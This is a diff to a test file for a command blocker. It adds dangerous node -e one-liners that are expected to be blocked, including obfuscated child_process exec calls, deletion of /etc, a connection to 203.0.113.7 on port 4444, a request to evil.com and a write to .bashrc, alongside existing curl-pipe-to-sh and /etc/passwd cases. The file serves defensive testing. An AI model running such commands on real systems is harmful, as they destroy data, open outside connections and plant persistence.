@@ -124,12 +124,26 @@ SHELL = [
     "d=/; d=build true; rm -rf $d",
     "HOME=/tmp/x true; rm -rf ~",
     "LD_PRELOAD=/tmp/x.so ls",
-    "pip install git+https://github.com/a/b",
     "curl -sO https://github.com/a/b.sh; sh b.sh",
     "git clone https://github.com/a/b && cd b && ./configure",
     "cat run.sh | sed s/a/b/ | sh",
     "cat ../run.sh | sh",
     "p=$(which python || which python3); $p -c \"open('/etc/passwd').read()\"",
+    """node -e 'require("child_process").exec("id")'""",
+    """node -e 'require("child_"+"process")["ex"+"ec"]("id")'""",
+    """node -e 'import(`child_${"process"}`).then(c => c.run("x"))'""",
+    """node -e '[].constructor.constructor("return process")().exit()'""",
+    """node -e 'process["bin" + "ding"]("spawn_sync")'""",
+    """node -e 'require("fs").rm("/etc", {recursive: true}, () => {})'""",
+    """node -e 'require("net").connect(4444, "203.0.113.7")'""",
+    """node -e 'require("node:https").get("https://evil.com/x")'""",
+    """node -e 'require("fs").appendFileSync(process.env.HOME + "/.bashrc", "x")'""",
+]
+JAVASCRIPT = [
+    """node -e 'throw new Error(`bad version ${process.version}`)'""",
+    """node -e 'const m = /v(\\d+)/.exec(process.version); if (m[1] < 18) process.exit(1)'""",
+    """node -e 'const fs = require("node:fs"); fs.writeFileSync("v.txt", `${1}`)'""",
+    """node -p 'require("./package.json").version'""",
 ]
 
 
@@ -145,3 +159,8 @@ def test_dangerous_python_is_blocked(text: str) -> None:
 @pytest.mark.parametrize("text", SHELL)
 def test_dangerous_shell_is_blocked(text: str) -> None:
     assert _blocked(text, Language.SHELL)
+
+
+@pytest.mark.parametrize("text", JAVASCRIPT)
+def test_javascript_that_reads_and_prints_is_not_blocked(text: str) -> None:
+    assert not _blocked(text, Language.SHELL)
